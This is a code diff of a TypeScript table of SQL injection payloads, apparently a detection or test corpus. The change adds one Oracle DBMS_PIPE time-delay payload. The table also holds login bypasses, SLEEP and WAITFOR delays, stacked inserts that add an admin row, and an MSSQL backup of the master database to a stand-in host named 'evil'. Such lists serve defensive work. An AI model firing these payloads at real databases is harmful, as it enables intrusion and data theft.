@@ -37,7 +37,7 @@ const SQLI_PL1: Record<string, string[]> = {
   'conditions only SQL writes: IF over a constant compared with =, a SQL call appended to a list, a user name cast to int': ['if(2=', 'IF(1=1,SLEEP(5),0)', "if('a'='a'", ", FIND_IN_SET('22', Category )", ', md5(password)', '1 current_user::int', 'session_user::integer'],
   'SQLite/PostgreSQL postfix null tests after a break, and a dangling condition the closing quote completes': ["' notnull --", "x' isnull--", "' * from = 1 or '9", "admin' = 1 or 'a", "' or '' '"],
   "login bypasses doing arithmetic on the application's two quoted halves": ["'-'", '"-"', "'*'", "'&'", "'^'"],
-  'insert values continued after a break or a number, conditional sorts on a constant, Oracle packages compared': ["x', 'admin')--", "x'),('admin','pw')--", "test'), (1, 'a', 'b')#", '1,1,1)--', '(CASE WHEN (1=1) THEN id ELSE name END)', 'case when 1=1 then 1 else 2 end', '1 and 1=ctxsys.drithsx.sn(1,1)', '1 AND 1=DBMS_UTILITY.SQLID_TO_SQLHASH(1)'],
+  'insert values continued after a break or a number, conditional sorts on a constant, Oracle packages compared': ["x', 'admin')--", "x'),('admin','pw')--", "test'), (1, 'a', 'b')#", '1,1,1)--', '(CASE WHEN (1=1) THEN id ELSE name END)', 'case when 1=1 then 1 else 2 end', '1 and 1=ctxsys.drithsx.sn(1,1)', '1 AND 1=DBMS_UTILITY.SQLID_TO_SQLHASH(1)', '1;SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) FROM DUAL--'],
   'negated comparisons, probes that are one call, MSSQL concatenation and backups, a whole-value waitfor': ['1 AND NOT 1=2', 'and not 1=1', '1 AND ISNULL(NULL)', "ad'+'min", "1; BACKUP DATABASE master TO DISK='\\\\evil\\x.bak'--", "WAITFOR DELAY '0:0:5'"],
 };
 
